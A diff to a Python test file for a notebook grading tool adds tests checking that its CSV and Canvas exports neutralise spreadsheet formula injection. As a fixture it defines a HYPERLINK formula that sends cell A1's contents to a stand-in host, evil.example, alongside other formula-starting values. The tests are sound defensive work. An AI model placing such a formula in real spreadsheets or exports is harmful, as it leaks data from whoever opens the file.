@@ -1,15 +1,19 @@
-"""Pages from hand-made results (no grading): the Content-Security-Policy of every page."""
+"""Pages and CSV files from hand-made results (no grading): the Content-Security-Policy of
+every page, spreadsheet-safe CSV."""
 
 import base64
+import csv
 import hashlib
+import io
 import os
 
 import pytest
 
-from grader import report
+from grader import exports, report
 from grader.results import CheckResult, SubmissionResult
 from test_reports import Markup
 
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"see your grade")'
 PROVENANCE = {  # as the pipeline writes it today
     "batch_size": 32, "dataset": "flowers/*.tfrec (16 files)", "device": "CPU", "epochs": 6, "grader_version": "0.1.0",
     "image_size": 96, "matched_by": "ids", "replicas": 1, "sandbox": True, "sandbox_seconds": 7.67, "seconds": 17.51,
@@ -82,6 +86,33 @@ def test_the_sort_script_hash_follows_the_script():
     policy = report.content_security_policy(("a",))
     assert "script-src 'sha256-ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs='" in policy  # sha256 of "a", as CSP spells it
     assert report.content_security_policy() != report.content_security_policy((report.SORT_SCRIPT,))
+
+
+def rows(text):
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote():
+    names = [HYPERLINK, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain"]
+    results = [submission(name) for name in names]
+    table = rows(report.grades_csv(results))
+    assert table[0][:6] == ["submission", "file", "sha256", "status", "score", "max_score"]
+    shown = {row[0] for row in table[1:]}
+    assert shown == {"'" + HYPERLINK, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain"}
+    assert {row[1] for row in table[1:]} == {"'" + HYPERLINK + ".ipynb", "'+1.ipynb", "'-2.ipynb", "'@SUM(A1).ipynb", "'\tx.ipynb", "'\rx.ipynb", "plain.ipynb"}
+    assert all(float(row[4]) == 10 and float(row[5]) == 10 and float(row[6]) == 10 for row in table[1:])  # numbers stay numbers
+
+
+def test_canvas_export_neutralises_names_and_keeps_points_numeric():
+    roster = {"a.ipynb": {"file": "a.ipynb", "student": "=1+1", "id": "-5", "section": "@A"}}
+    text, unmatched = exports.canvas_csv([submission("a"), submission(HYPERLINK)], roster, "Lab (1)")
+    table = rows(text)
+    assert ["'=1+1", "'-5", "", "", "'@A", "10"] in table
+    assert ["'" + HYPERLINK, "", "", "", "", "10"] in table and unmatched == [HYPERLINK + ".ipynb"]
+
+
+def test_a_negative_score_column_is_still_a_number():
+    assert exports.spreadsheet_cell(-1.5) == -1.5 and exports.spreadsheet_cell("-1.5") == "'-1.5"
 
 
 def test_pages_are_deterministic(pages, tmp_path):
